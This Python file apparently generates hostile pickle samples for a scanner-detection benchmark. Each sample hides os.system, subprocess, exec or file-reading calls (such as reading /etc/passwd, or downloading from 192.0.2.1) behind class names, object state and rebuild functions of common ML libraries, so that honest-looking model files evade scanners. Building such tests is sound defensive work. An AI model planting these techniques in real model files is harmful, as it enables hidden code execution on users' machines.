"""Pickles that act through names which honest files need, and hide the rest in state.

Each takes something that a list of harmless names holds (a class of an estimator, a
rebuilding function, a container) and makes it fetch, open or call.
"""

from __future__ import annotations

import zlib
from typing import TYPE_CHECKING

from benchmarks.detection.families import pickle_evading_streams as streams
from benchmarks.detection.opcodes import (
    Code,
    call,
    dtype,
    fetch,
    instance,
    stream,
    value,
)
from benchmarks.detection.sample import Sample, Truth

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["samples"]

_SHELL = "echo hello"
_SYSTEM = fetch("os:system")
_ACT = call("os:system", _SHELL)
_TRUE = True


def samples() -> Iterator[Sample]:
    """Give one file for each way."""
    groups = (
        ("borrowed class that acts", _borrowed()),
        ("harmless class, hostile state", _states()),
        ("rebuilding function, hostile argument", _rebuilds()),
        ("one call among honest data", streams.injected()),
        ("memo and stack", streams.stacks()),
        ("change of what is shared", streams.changes()),
        ("chain of harmless functions", streams.chains()),
        ("harmless names that never end", streams.endless()),
    )
    for technique, group in groups:
        for name, data in group.items():
            path = "model.pt" if data[:2] == b"PK" else "model.pkl"
            yield Sample(
                name=name,
                family="pickle-evading",
                technique=technique,
                truth=Truth.HOSTILE,
                files={path: data},
            )


def _borrowed() -> dict[str, bytes]:
    """Names that honest modules hold only because they import them."""
    address = ("192.0.2.1", 80)
    made = {
        "client-of-callbacks": call("sklearn.callback._transport:Client", address),
        "listener-of-callbacks": call("sklearn.callback._transport:Listener", address),
        "parallel-of-pipeline": call("sklearn.pipeline:Parallel", 2),
        "memory-of-utilities": call("sklearn.utils.validation:Memory", "/tmp/cache"),  # noqa: S108 - only a text
        "booster-of-estimators": call(
            "xgboost.sklearn:Booster", None, (), "/etc/passwd"
        ),
        "matrix-of-estimators": call("xgboost.sklearn:DMatrix", "/etc/passwd"),
        "dataset-of-estimators": call("lightgbm.sklearn:Dataset", "/etc/passwd"),
        "booster-of-lightgbm": call(
            "lightgbm.sklearn:Booster", None, None, "/etc/passwd"
        ),
        "pool-of-catboost": call("catboost.core:Pool", "/etc/passwd"),
        "visualiser-of-catboost": call(
            "catboost.core:OfflineMetricVisualizer", ["/etc"]
        ),
        "module-through-sklearn": call("sklearn.utils._joblib:Parallel", 2),
        "system-of-datasets": call("sklearn.datasets._base:os.system", _SHELL),
        "exec-of-utilities": call("sklearn.utils.fixes:exec", "print('hello')"),
        "subprocess-of-build": call("sklearn._build_utils:subprocess.call", _SHELL),
        "shutil-of-zenodo": call("imblearn.datasets._zenodo:shutil.rmtree", "/tmp/x"),  # noqa: S108 - only a text
        "path-of-version": call("imblearn._version:Path.unlink", "x"),
        "graph-module-of-quantisation": call(
            "torch.ao.quantization.fx.graph_module:GraphModule", {}, _SHELL
        ),
        "tracer-of-quantisation": call("torch.ao.quantization.quantize_fx:Tracer"),
        "pickle-of-torch": call("torch.nn.modules.module:pickle.loads", b"N."),
        "warnings-of-torch": call("torch.nn.modules.module:warnings.sys.exit", 0),
        "functools-of-torch": call("torch.optim.optimizer:functools.reduce", _SYSTEM),
        "hub-of-models": call("torchvision.models._api:load_state_dict_from_url", "x"),
        "importlib-of-models": call(
            "torchvision.models._api:importlib.import_module", "os"
        ),
        "open-of-trainer": call("transformers.trainer_utils:open", "x", "w"),
        "subprocess-of-trainer": call("transformers.trainer_utils:subprocess", _SHELL),
        "arguments-with-folder": call(
            "transformers.training_args:json.load", "/etc/passwd"
        ),
        "request-of-transforms": call("torchvision.transforms.functional:os.getcwd"),
        "loader-of-layers": call("timm.models._builder:load_checkpoint", "x", "y"),
        "helper-of-models": call("timm.models._helpers:torch.load", "x.pt"),
        "download-of-tasks": call(
            "ultralytics.nn.tasks:attempt_download_asset", "http://192.0.2.1/a.pt"
        ),
        "checkpoint-of-tasks": call("ultralytics.nn.tasks:torch_safe_load", "a.pt"),
        "eval-of-blocks": call("ultralytics.nn.tasks:ast.literal_eval", "1"),
        "parser-of-tasks": call("ultralytics.nn.tasks:parse_model", {"a": _SHELL}, 3),
        "reader-of-vectors": call(
            "gensim.models.keyedvectors:KeyedVectors.load", "/etc/passwd"
        ),
        "utilities-of-vectors": call("gensim.utils:unpickle", "/etc/passwd"),
        "command-of-words": call("gensim.utils:check_output", _SHELL),
        "weka-of-words": call("nltk.classify.weka:java", _SHELL),
        "config-of-weka": call("nltk.classify.weka:config_weka", _SHELL),
        "stanford-of-tags": call("nltk.tag.stanford:StanfordTagger", _SHELL),
        "senna-of-tags": call("nltk.tag.senna:SennaTagger", "/bin/sh"),
        "megam-of-words": call("nltk.classify.megam:call_megam", [_SHELL]),
        "data-of-words": call("nltk.data:load", "pickle:/etc/passwd"),
        "storage-of-studies": call(
            "optuna.storages._rdb.storage:RDBStorage", "sqlite:////tmp/x"
        ),
        "exec-of-stan": call("cmdstanpy.utils.command:do_command", [_SHELL]),
        "compiler-of-stan": call("cmdstanpy.compilation:compile_stan_file", "x.stan"),
        "reader-of-datasets": call("river.datasets.base:FileDataset", "/etc/passwd"),
        "hub-of-transformers": call("transformers.utils.hub:cached_file", "a/b", "c"),
        "hub-creating": call("transformers.utils.hub:create_repo", "a/b"),
        "code-of-transformers": call(
            "transformers.dynamic_module_utils:get_class_from_dynamic_module", "a", "b"
        ),
    }
    return {name: stream(code) for name, code in made.items()}


def _states() -> dict[str, bytes]:
    """Instances whose state fetches what acts, now or when the model is used."""
    partial = call("functools:partial", _SYSTEM)
    late = call("functools:partial", fetch("builtins:exec"), "print('hello')")
    lookup = call("functools:partial", fetch("operator:methodcaller"), "system")
    made = {
        "function-transformer": instance(
            "sklearn.preprocessing._function_transformer:FunctionTransformer",
            {"func": _SYSTEM, "validate": False},
        ),
        "function-transformer-partial": instance(
            "sklearn.preprocessing._function_transformer:FunctionTransformer",
            {"func": late},
        ),
        "metric-of-neighbours": instance(
            "sklearn.neighbors._unsupervised:NearestNeighbors", {"metric": _SYSTEM}
        ),
        "vectoriser-analyser": instance(
            "sklearn.feature_extraction.text:CountVectorizer",
            {"analyzer": fetch("builtins:eval")},
        ),
        "vectoriser-tokeniser": instance(
            "sklearn.feature_extraction.text:TfidfVectorizer",
            {"tokenizer": call("functools:partial", fetch("subprocess:run"))},
        ),
        "scorer": instance(
            "sklearn.metrics._scorer:_Scorer", {"_score_func": partial, "_sign": 1}
        ),
        "objective-of-xgboost": instance(
            "xgboost.sklearn:XGBClassifier", {"objective": _SYSTEM}
        ),
        "booster-with-file": instance(
            "xgboost.core:Booster", {"handle": call("builtins:open", "/etc/passwd")}
        ),
        "hooks-of-module": instance(
            "torch.nn.modules.linear:Linear",
            {"_forward_pre_hooks": call("collections:OrderedDict", [(0, _SYSTEM)])},
        ),
        "load-hook-of-module": instance(
            "torch.nn.modules.container:Sequential",
            {"_load_state_dict_pre_hooks": {0: partial}},
        ),
        "forward-of-module": instance(
            "torch.nn.modules.linear:Identity", {"forward": late}
        ),
        "activation-of-layer": instance(
            "torch.nn.modules.transformer:TransformerEncoderLayer",
            {"activation": fetch("builtins:eval")},
        ),
        "step-of-optimiser": instance(
            "torch.optim.sgd:SGD", {"_patch_step_function": lookup, "param_groups": []}
        ),
        "lambda-of-schedule": instance(
            "torch.optim.lr_scheduler:LambdaLR", {"lr_lambdas": [_SYSTEM]}
        ),
        "transforms": instance(
            "torchvision.transforms.transforms:Compose", {"transforms": [_SYSTEM]}
        ),
        "lambda-of-transforms": instance(
            "torchvision.transforms.transforms:Lambda", {"lambd": late}
        ),
        "detection-model": instance(
            "ultralytics.nn.tasks:DetectionModel", {"yaml": {}, "_apply": _SYSTEM}
        ),
        "arguments-of-training": instance(
            "transformers.training_args:TrainingArguments", {"output_dir": _ACT}
        ),
        "configuration": instance(
            "transformers.models.bert.configuration_bert:BertConfig",
            {"to_dict": partial},
        ),
        "frame-with-attributes": instance(
            "pandas.core.frame:DataFrame",
            {"_typ": "dataframe", "attrs": {"a": _ACT}, "_metadata": []},
        ),
        "grouper-of-frame": instance(
            "pandas.core.series:Series", {"_mgr": call("pandas:eval", "1+1")}
        ),
        "source-of-distribution": instance(
            "scipy.stats._continuous_distns:norm_gen",
            {"_parse_arg_template": "print('hello')", "shapes": call("os:getenv", "A")},
        ),
        "default-of-dictionary": call(
            "collections:defaultdict", fetch("builtins:breakpoint")
        ),
        "default-partial": call("collections:defaultdict", late),
        "metadata-of-type": Code(
            dtype("f8")
            + value((3, "<", None, None, None, -1, -1, 0, ({"a": _ACT}, (1,))))
            + b"b"
        ),
        "generator-with-lock": instance(
            "numpy.random._generator:Generator", {"lock": call("threading:Thread")}
        ),
        "member-of-enumeration": call(
            "torchvision.models.resnet:ResNet50_Weights", _ACT
        ),
        "state-is-pair": instance(
            "sklearn.linear_model._logistic:LogisticRegression", (None, {"C": partial})
        ),
        "state-by-call": Code(
            fetch("sklearn.svm._classes:SVC") + b")\x81" + _ACT + b"b"
        ),
        "setstate-fetched": call(
            call("builtins:getattr", fetch("builtins:object"), "__setattr__"),
            fetch("sklearn.svm:SVC"),
            "fit",
            _SYSTEM,
        ),
        "slots-of-state": instance(
            "argparse:Namespace", ({}, {"__class__": fetch("subprocess:Popen")})
        ),
        "keras-of-skorch": instance(
            "skorch.classifier:NeuralNetClassifier", {"module": _SYSTEM}
        ),
        "tokenizer-with-pickle": instance(
            "transformers.tokenization_utils_fast:PreTrainedTokenizerFast",
            {"_tokenizer": call("pickle:loads", b"N.")},
        ),
    }
    return {name: stream(code) for name, code in made.items()}


def _rebuilds() -> dict[str, bytes]:
    """Functions that rebuild things, given one that does something else."""
    made = {
        "wrapper-subclass": call(
            "torch._utils:_rebuild_wrapper_subclass", _SYSTEM, _SHELL, (), 0, 0
        ),
        "from-type": call(
            "torch._tensor:_rebuild_from_type_v2",
            _SYSTEM,
            fetch("torch:Tensor"),
            (_SHELL,),
            {},
        ),
        "from-type-inner": call(
            "torch._tensor:_rebuild_from_type_v2",
            fetch("torch._utils:_rebuild_parameter"),
            fetch("subprocess:Popen"),
            (_SHELL,),
            {},
        ),
        "parameter-state": call(
            "torch._utils:_rebuild_parameter_with_state", _ACT, _TRUE, {}, {}
        ),
        "device-from-numpy": call(
            "torch._utils:_rebuild_device_tensor_from_numpy", _ACT, 0, "cpu", _TRUE
        ),
        "tensor-of-call": call(
            "torch._utils:_rebuild_tensor_v2", call("torch:load", "x.pt"), 0, (1,), (1,)
        ),
        "storage-of-file": call("torch:FloatStorage.from_file", "/etc/passwd", 0, 9),
        "storage-shared": call(
            "torch:UntypedStorage._new_shared_filename_cpu", b"/tmp/m", b"/x", 8
        ),
        "array-of-popen": call(
            "numpy.core.multiarray:_reconstruct", fetch("subprocess:Popen"), (0,), b"b"
        ),
        "masked-of-system": call(
            "numpy.ma.core:_mareconstruct", _SYSTEM, fetch("numpy:ndarray"), (0,), "b"
        ),
        "buffer-of-system": call(
            "numpy._core.numeric:_frombuffer", _ACT, dtype("f8"), (0,), "C"
        ),
        "ufunc": call("numpy._core:_ufunc_reconstruct", "os", "system"),
        "ufunc-old": call("numpy.core:_ufunc_reconstruct", "posix", "system"),
        "type-of-text": call("numpy._core:_DType_reconstruct", "os.system"),
        "generator-of-system": call("numpy.random._pickle:__generator_ctor", _SYSTEM),
        "bits-of-system": call(
            "numpy.random._pickle:__randomstate_ctor", _SYSTEM, _SYSTEM
        ),
        "index-of-popen": call(
            "pandas.core.indexes.base:_new_Index",
            fetch("subprocess:Popen"),
            {"args": _SHELL},
        ),
        "index-of-date": call(
            "pandas.core.indexes.datetimes:_new_DatetimeIndex", _SYSTEM, {"x": 1}
        ),
        "block-of-call": call("pandas._libs.internals:_unpickle_block", _ACT, 0, 2),
        "offset-of-text": call("pandas._libs.tslibs.offsets:_get_offset", _ACT),
        "distance-of-system": call("sklearn.metrics._dist_metrics:newObj", _SYSTEM),
        "tree-of-metric": call("sklearn.neighbors._kd_tree:KDTree", [[1]], 40, _SYSTEM),
        "reconstructor": call("copyreg:_reconstructor", _SYSTEM, _SYSTEM, _SHELL),
        "newobj": call("copyreg:__newobj__", fetch("subprocess:Popen"), _SHELL),
        "newobj-keywords": call(
            "copyreg:__newobj_ex__", fetch("subprocess:Popen"), (), {"args": _SHELL}
        ),
        "tokenizer-of-call": call("tokenizers:Tokenizer", _ACT),
        "image-of-call": call(
            "torchvision.transforms.functional:InterpolationMode", _ACT
        ),
        "bytes-of-storage": call("torch.storage:_load_from_bytes", stream(_ACT)),
        "compressed-bytes-of-storage": call(
            "torch.storage:_load_from_bytes",
            call("zlib:decompress", zlib.compress(b"N.")),
        ),
        "codec-that-expands": call(
            "_codecs:decode", zlib.compress(stream(_ACT)), "zlib"
        ),
        "codec-of-pickle": call("codecs:lookup", _SHELL),
        "array-of-objects": call(
            "array:_array_reconstructor", fetch("os:system"), "b", 0, b"x"
        ),
        "date-of-system": call("datetime:datetime.strptime", _ACT, "x"),
        "zone-of-file": call("zoneinfo:ZoneInfo.from_file", call("io:open", "x")),
        "keras-of-bytes": call(
            call(
                "builtins:getattr",
                fetch("keras.src.models.sequential:Sequential"),
                "_unpickle_model",
            ),
            call("io:BytesIO", b"PK"),
        ),
        "numba-of-bytes": call(
            "numba.core.serialize:_unpickle__CustomPickled", stream(_ACT)
        ),
        "function-of-code": call(
            "numba.cloudpickle.cloudpickle:_make_function",
            call("marshal:loads", b"N"),
            {},
        ),
        "document-of-hooks": call(
            "spacy.tokens.doc:unpickle_doc",
            fetch("spacy.vocab:Vocab"),
            stream(_ACT),
            b"",
        ),
    }
    return {name: stream(code) for name, code in made.items()}
